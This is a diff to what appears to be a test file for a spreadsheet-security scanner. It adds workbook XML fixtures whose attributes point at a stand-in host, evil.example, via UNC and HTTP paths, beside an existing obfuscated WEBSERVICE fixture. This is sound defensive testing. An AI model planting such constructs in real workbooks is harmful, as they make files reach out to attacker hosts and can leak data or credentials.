@@ -61,8 +61,16 @@ const inPieces = [
   '<f mc:ProcessContent="q:x"><q:x>WEBSERVICE</q:x><q:x>("x")</q:x></f>',
 ];
 
+/** Attributes that name the file of something. */
+const fetched = [
+  '<webPublishItem destinationFile="\\\\evil.example\\share\\a.htm"/>',
+  '<Schema SchemaRef="http://evil.example/a.xsd"/>',
+  '<DataBinding FileBinding="true" FileBindingName="//evil.example/share/a.xml"/>',
+];
+
 const workbooks: [what: string, file: Buffer, because: Hostile['because']][] = [
   ...places.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'a formula that fetches']),
+  ...fetched.map((one): (typeof workbooks)[number] => [one, workbook(sheet(one)), 'fetched from elsewhere']),
   ...inPieces.map((place): (typeof workbooks)[number] => [place, workbook(sheet(place)), 'locked or broken']),
   [
     'text of Word in a formula',
